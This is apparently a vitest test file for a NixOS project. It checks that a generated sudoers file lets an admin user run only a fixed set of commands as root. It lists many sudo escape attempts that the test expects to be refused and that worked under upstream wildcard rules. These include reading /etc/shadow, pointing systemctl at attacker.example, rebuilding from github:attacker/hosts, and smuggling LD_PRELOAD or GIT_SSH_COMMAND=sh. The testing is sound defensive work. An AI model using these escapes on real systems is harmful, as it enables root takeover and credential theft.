import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { execa } from "execa";
import { expect, it } from "vitest";
import { path } from "../_debian.ts";
import { describeWith } from "../_needs.ts";
import { temporaryFolder } from "../_project.ts";
import { evaluate } from "./_nix.ts";
import { type Attempt, as, ownEtc, PrivateMachine, quoted } from "./_private-machine.ts";

const sw = "/run/current-system/sw/bin";
/** Upstream's. */
const rebuild = "/etc/clawdlets/bin/rebuild-host";
const commit = "0123456789abcdef0123456789abcdef01234567";
const log = ["--no-pager", "--output=short-iso", "--unit=clawdbot-maren.service"];
const refusals = log.with(2, "--unit=clawdlets-egress-proxy-maren.service");
const activationLog = log.with(2, "--unit=clawdlets-activation.service");

const openclaw = `${sw}/clawdlets-openclaw-maren`;

/** As NixOS' own rules are (nixpkgs, nixos/modules/security/sudo.nix). */
const nixosRules = "root ALL=(ALL:ALL) SETENV: ALL\n%wheel ALL=(ALL:ALL) SETENV: ALL\n";

const ours = async () =>
  (await evaluate(
    `(import ./nix/lib/sudoers.nix).file { bots = [ "maren" "so-nja_2" ]; rebuild = true; push = true; backups = true; tailnet = true; }`,
  )) as string;

/** Upstream's, at b49d4af, as far as it had something alike. */
const upstream = `Cmnd_Alias CLAWDBOT_SYSTEMCTL = ${sw}/systemctl status clawdbot-*, ${sw}/systemctl stop clawdbot-*, \\
  ${sw}/systemctl start clawdbot-*.service
Cmnd_Alias CLAWDBOT_JOURNAL = ${sw}/journalctl -u clawdbot-* --no-pager
Cmnd_Alias CLAWDLETS_REBUILD = ${rebuild} --rev *
admin ALL=(root) NOPASSWD: CLAWDBOT_SYSTEMCTL, CLAWDBOT_JOURNAL, CLAWDLETS_REBUILD
`;

async function trySudo(rules: string, user: string, attempts: readonly (readonly string[])[]): Promise<Attempt[]> {
  const machine = new PrivateMachine();
  machine.place("/etc/sudoers", nixosRules + rules, 0o440);
  machine.empty("/etc/sudoers.d");
  for (const name of [
    "systemctl",
    "journalctl",
    "nix-env",
    "clawdlets-receive-secrets",
    "clawdlets-activate",
    "clawdlets-backup",
    "clawdlets-rekey",
    "clawdlets-receive-system",
    "nix-store",
    "nixos-rebuild",
    "clawdlets-openclaw-maren",
    "clawdlets-openclaw-so-nja_2",
    "clawdlets-openclaw-other",
    "clawdlets-logs",
    "clawdlets-audit",
    "bash",
  ]) {
    machine.stub(`${sw}/${name}`);
  }
  // Upstream's program. /etc cannot be laid over as a whole, and this path is not on this machine.
  machine.stub("/run/rebuild/rebuild-host");
  machine.step(ownEtc);
  machine.step(`mkdir -p /etc/clawdlets/bin && ln -s /run/rebuild/rebuild-host ${rebuild}`);
  machine.step(`mkdir -p /home/admin/bin && ln -s ${sw}/systemctl /home/admin/bin/systemctl`);
  return await machine.run(attempts.map((words) => as(user, "sudo", "-n", ...words)));
}

const programs = ["nix-instantiate", "sudo", "visudo", "unshare", "setpriv"];

describeWith({ programs, root: true }, "what admin may run as root", () => {
  it("is a file that visudo takes, strictly", async () => {
    const file = join(temporaryFolder(), "sudoers");
    writeFileSync(file, nixosRules + (await ours()), { mode: 0o440 });
    const { all, exitCode } = await execa("visudo", ["--check", "--strict", "--file", file], {
      env: { PATH: path },
      all: true,
      reject: false,
    });
    expect(all).toContain("parsed OK");
    expect(exitCode).toBe(0);
  });

  const allowed: [string, ...string[]][] = [
    [`${sw}/clawdlets-receive-secrets`],
    [`${sw}/nix-env`, "--list-generations", "--profile", "/nix/var/nix/profiles/system"],
    [`${sw}/clawdlets-logs`],
    [`${sw}/clawdlets-audit`],
    [`${sw}/clawdlets-activate`],
    [`${sw}/clawdlets-backup`],
    [`${sw}/clawdlets-rekey`],
    [`${sw}/clawdlets-receive-system`, "--stdio"],
    [`${sw}/journalctl`, ...activationLog, "--lines=200"],
    [
      `${sw}/journalctl`,
      ...activationLog.with(2, "--unit=clawdlets-activation-watch.service"),
      "--lines=9",
      "--follow",
    ],
    ...["maren", "so-nja_2"].flatMap((bot): [string, ...string[]][] => [
      ...["start", "stop", "restart"].map((verb): [string, ...string[]] => [
        `${sw}/systemctl`,
        verb,
        `clawdbot-${bot}.service`,
      ]),
      [`${sw}/systemctl`, "status", "--no-pager", "--lines=0", `clawdbot-${bot}.service`],
    ]),
    ...["maren", "so-nja_2"].flatMap((bot): [string, ...string[]][] => {
      const program = `${sw}/clawdlets-openclaw-${bot}`;
      return [
        [program, "channels"],
        [program, "pairing-list", "nextcloud-talk"],
        [program, "pairing-approve", "telegram", "ABCD2345"],
      ];
    }),
    [`${sw}/journalctl`, ...log, "--lines=1"],
    [`${sw}/journalctl`, ...log, "--lines=99999"],
    [`${sw}/journalctl`, ...log, "--lines=200", "--since=-2h"],
    [`${sw}/journalctl`, ...log, "--lines=200", "--since=-90m", "--follow"],
    [`${sw}/journalctl`, ...log, "--lines=200", "--follow"],
    [`${sw}/journalctl`, ...refusals, "--lines=20000", "--since=-1h"],
  ];

  it("is this, and runs as root with these words", async () => {
    const answers = await trySudo(await ours(), "admin", allowed);
    const expected = allowed.map(([program, ...words]) => ({
      exitCode: 0,
      stdout: `RAN ${[program.replace(/.*\//, ""), ...words].join(" ")}${words.length === 0 ? " " : ""} as root\n`,
    }));
    expect(answers.map(({ exitCode, stdout }) => ({ exitCode, stdout }))).toEqual(expected);
  });

  /** Each works with upstream's rules, as the next test shows. */
  const escapes: string[][] = [
    [`${sw}/systemctl`, "stop", "clawdbot-x", "nftables.service"],
    [`${sw}/systemctl`, "stop", "clawdbot-x", "clawdlets-egress-proxy.service", "sshd.service"],
    [`${sw}/systemctl`, "status", "clawdbot-x", "--host=attacker.example"],
    [`${sw}/systemctl`, "start", "clawdbot-x", "rescue.target", "y.service"],
    [`${sw}/journalctl`, "-u", "clawdbot-x", "--file=/etc/shadow", "--no-pager"],
    [`${sw}/journalctl`, "-u", "clawdbot-x", "--vacuum-time=1s", "--no-pager"],
    [rebuild, "--rev", `${commit}`, "--flake", "github:attacker/hosts"],
    [rebuild, "--rev", "../../x"],
  ];

  it("has no wildcard: with one, as upstream had it, root runs whatever is added", async () => {
    const answers = await trySudo(upstream, "admin", escapes);
    expect(answers.map(({ stdout }) => /^RAN .* as root$/m.test(stdout))).toEqual(escapes.map(() => true));
  });

  const refused: string[][] = [
    ...escapes,
    // More than the words that are allowed.
    [`${sw}/clawdlets-receive-secrets`, "x"],
    [`${sw}/clawdlets-receive-secrets`, ""],
    [`${sw}/clawdlets-logs`, "--unit=sshd.service"],
    [`${sw}/clawdlets-logs`, ""],
    ["SYSTEMD_PAGER=sh", `${sw}/clawdlets-logs`],
    [`${sw}/clawdlets-audit`, "/etc/shadow"],
    ["SECRET_PATHS=/etc/shadow", `${sw}/clawdlets-audit`],
    [`${sw}/clawdlets-activate`, "run"],
    [`${sw}/clawdlets-activate`, "watch"],
    [`${sw}/clawdlets-activate`, "switch", "0123456789abcdef", commit],
    [`${sw}/clawdlets-backup`, "run-restore"],
    [`${sw}/clawdlets-backup`, "restore", "0123456789abcdef", "maren", "latest", "in-place"],
    ["FOLDERS=/home/admin", `${sw}/clawdlets-backup`],
    [`${sw}/clawdlets-rekey`, "run"],
    [`${sw}/clawdlets-rekey`, "watch"],
    [`${sw}/clawdlets-rekey`, "begin", "0123456789abcdef", "60"],
    ["JOIN=/home/admin/x", `${sw}/clawdlets-rekey`],
    [`${sw}/systemctl`, "start", "clawdlets-rekey-watch.service"],
    [`${sw}/tailscale`, "up", "--force-reauth"],
    [`${sw}/systemctl`, "start", "clawdlets-restore@maren.service"],
    ["STATE_DIR=/home/admin", `${sw}/clawdlets-activate`],
    [`${sw}/nix-env`, "--list-generations", "--profile", "/nix/var/nix/profiles/system", "--delete-generations", "old"],
    [`${sw}/nix-env`, "--list-generations", "--profile", "/tmp/x"],
    [`${sw}/nix-env`],
    [`${sw}/systemctl`, "stop", "clawdbot-maren.service", "sshd.service"],
    [`${sw}/systemctl`, "--root=/tmp", "stop", "clawdbot-maren.service"],
    [`${sw}/systemctl`, "stop", "clawdbot-maren.service", ""],
    [`${sw}/journalctl`, ...log, "--lines=10", "--file=/etc/shadow"],
    [`${sw}/journalctl`, ...log, "--lines=10", "--since=-2h", "--vacuum-size=1"],
    [`${sw}/journalctl`, ...log, "--lines=10 --file=/etc/shadow"],
    [`${sw}/journalctl`, ...log, "--lines=10\n--file=/etc/shadow"],
    [`${sw}/journalctl`, ...log, "--lines=10\n"],
    // Other ways to a system that nobody signed.
    [`${sw}/clawdlets-receive-system`],
    [`${sw}/clawdlets-receive-system`, "--stdio", "--force-trusted"],
    [`${sw}/clawdlets-receive-system`, "--store", "/"],
    [`${sw}/nix-store`, "--serve", "--write"],
    [`${sw}/nix-store`, "--import"],
    [`${sw}/nix-daemon`, "--stdio"],
    [`${sw}/nix`, "copy", "--no-check-sigs", "--from", "file:///tmp/x", "/nix/store/x"],
    [`${sw}/nix-env`, "--profile", "/nix/var/nix/profiles/system", "--set", "/nix/store/x"],
    [`${sw}/nixos-rebuild`, "switch"],
    [`${sw}/systemd-run`, "/nix/store/x/bin/switch-to-configuration", "switch"],
    ["/nix/store/x/bin/switch-to-configuration", "switch"],
    ["touch", "/run/clawdlets-downgrade-allowed"],
    [openclaw],
    [openclaw, ""],
    [openclaw, "channels", "x"],
    [openclaw, "channels --probe"],
    [openclaw, "pairing-list"],
    [openclaw, "pairing-list", "--help"],
    [openclaw, "pairing-list", "a".repeat(33)],
    [openclaw, "pairing-list", "telegram", "--account"],
    [openclaw, "pairing-approve", "telegram", "ABCD234O"],
    [openclaw, "pairing-approve", "telegram", "ABCD23456"],
    [openclaw, "pairing-approve", "telegram", "ABCD2345", "--notify"],
    [openclaw, "pairing-approve", "telegram", "ABCD2345\n"],
    [openclaw, "config", "set"],
    [`${sw}/clawdlets-openclaw-other`, "channels"],
    // Other words.
    [`${sw}/systemctl`, "stop", "clawdbot-other.service"],
    [`${sw}/systemctl`, "stop", "clawdbot-maren"],
    [`${sw}/systemctl`, "stop", "clawdbot-maren.service.d"],
    [`${sw}/systemctl`, "stop", "CLAWDBOT-maren.service"],
    [`${sw}/systemctl`, "stop", "*"],
    [`${sw}/systemctl`, "edit", "clawdbot-maren.service"],
    [`${sw}/systemctl`, "show", "clawdbot-maren.service"],
    [`${sw}/systemctl`, "status", "clawdbot-maren.service"],
    [`${sw}/systemctl`, "daemon-reexec"],
    [`${sw}/systemctl`],
    [`${sw}/journalctl`, "--no-pager"],
    [`${sw}/journalctl`, "--no-pager", "--output=short-iso", "--unit=clawdbot-marenXservice", "--lines=10"],
    [`${sw}/journalctl`, "--no-pager", "--output=short-iso", "--unit=sshd.service", "--lines=10"],
    [`${sw}/journalctl`, ...log.slice(1), "--lines=10"],
    [`${sw}/journalctl`, ...activationLog, "--lines=10", "--file=/etc/shadow"],
    [`${sw}/journalctl`, ...activationLog.with(2, "--unit=clawdlets-activationXservice"), "--lines=10"],
    [`${sw}/journalctl`, ...refusals, "--lines=20000", "--since=-1h", "--file=/etc/shadow"],
    [`${sw}/journalctl`, ...refusals, "--lines=20000 --file=/etc/shadow"],
    [`${sw}/journalctl`, ...refusals.with(2, "--unit=clawdlets-egress-proxy-other.service"), "--lines=10"],
    [`${sw}/journalctl`, ...refusals.with(2, "--unit=clawdlets-egress-proxy-marenXservice"), "--lines=10"],
    [`${sw}/journalctl`, ...refusals.with(2, "--unit=clawdlets-egress-proxy-maren.service -D/"), "--lines=10"],
    [`${sw}/systemctl`, "stop", "clawdlets-egress-proxy-maren.service"],
    [`${sw}/journalctl`, ...log, "--lines=0"],
    [`${sw}/journalctl`, ...log, "--lines=100000"],
    [`${sw}/journalctl`, ...log, "--lines=all"],
    [`${sw}/journalctl`, ...log, "--lines=10", "--since=yesterday"],
    [`${sw}/journalctl`, ...log, "--lines=10", "--since=-2h", "-f"],
    // Upstream's, which switched within the session that it cut.
    [rebuild],
    [rebuild, "--rev", commit],
    // Other programs, by their own or by allowed names.
    ["/bin/sh", "-c", "id"],
    [`${sw}/bash`],
    ["cat", "/etc/shadow"],
    ["/bin/cat", "/etc/shadow"],
    ["/home/admin/bin/systemctl", "daemon-reload"],
    [`${sw}/../bin/systemctl`, "daemon-reload"],
    ["/usr/bin/visudo"],
    ["su", "breakglass"],
    // Other ways of sudo.
    ["-s"],
    ["-i"],
    ["-e", "/etc/passwd"],
    ["-u", "breakglass", `${sw}/clawdlets-receive-secrets`],
    ["-u", "bot-maren", "/bin/sh"],
    ["-g", "wheel", `${sw}/clawdlets-receive-secrets`],
    ["-E", `${sw}/clawdlets-receive-secrets`],
    ["PATH=/home/admin/bin", `${sw}/clawdlets-activate`],
    ["LD_PRELOAD=/home/admin/x.so", `${sw}/clawdlets-activate`],
    ["GIT_SSH_COMMAND=sh", `${sw}/clawdlets-activate`],
    ["BASH_ENV=/home/admin/x", `${sw}/clawdlets-receive-secrets`],
    ["-R", "/home/admin", `${sw}/clawdlets-receive-secrets`],
    ["-D", "/home/admin", `${sw}/clawdlets-receive-secrets`],
    ["-C", "9", `${sw}/clawdlets-receive-secrets`],
  ];

  it(`is nothing else: ${refused.length} attempts`, async () => {
    const answers = await trySudo(await ours(), "admin", refused);
    const got = answers.map(({ exitCode, stdout }) => (exitCode !== 0 && !stdout.includes("RAN") ? "refused" : stdout));
    expect(got.map((answer, index) => `${answer} ${refused[index]?.join(" ")}`)).toEqual(
      refused.map((words) => `refused ${words.join(" ")}`),
    );
    process.stdout.write(`sudo: ${allowed.length} commands allowed, ${refused.length} refused\n`);
  });

  it("knows no PATH but its own", async () => {
    const answers = await trySudo(`${await ours()}admin ALL=(root) NOPASSWD: /usr/bin/env\n`, "admin", [
      ["/usr/bin/env"],
    ]);
    expect(answers[0]?.stdout).toContain(`\nPATH=/run/wrappers/bin:${sw}\n`);
  });

  it("is the same words, however they are cut", async () => {
    const cut: string[][] = [
      [`${sw}/systemctl`, "stop clawdbot-maren.service"],
      [`${sw}/journalctl`, log.join(" "), "--lines=10"],
    ];
    const answers = await trySudo(await ours(), "admin", cut);
    // sudo joins words with spaces before it compares; systemctl and journalctl then know no such word.
    expect(answers.map(({ stdout }) => stdout)).toEqual([
      "RAN systemctl stop clawdbot-maren.service as root\n",
      `RAN journalctl ${log.join(" ")} --lines=10 as root\n`,
    ]);
  });

  it("is admin's alone", async () => {
    for (const user of ["bot-maren", "nobody"]) {
      const answers = await trySudo(await ours(), user, allowed);
      expect(answers.map(({ exitCode, stdout }) => ({ exitCode, stdout }))).toEqual(
        allowed.map(() => ({ exitCode: 1, stdout: "" })),
      );
    }
  });

  it("asks breakglass for a password, and root for none", async () => {
    const [id = { exitCode: 0, stdout: "", stderr: "" }] = await trySudo(await ours(), "breakglass", [["id", "-u"]]);
    expect(id.stderr).toContain("a password is required");
    const [root] = await trySudo(await ours(), "root", [["id", "-u"]]);
    expect(root?.stdout).toBe("0\n");
  });

  it("quotes what it is given", () => expect(quoted("it's")).toBe(`'it'\\''s'`));
});
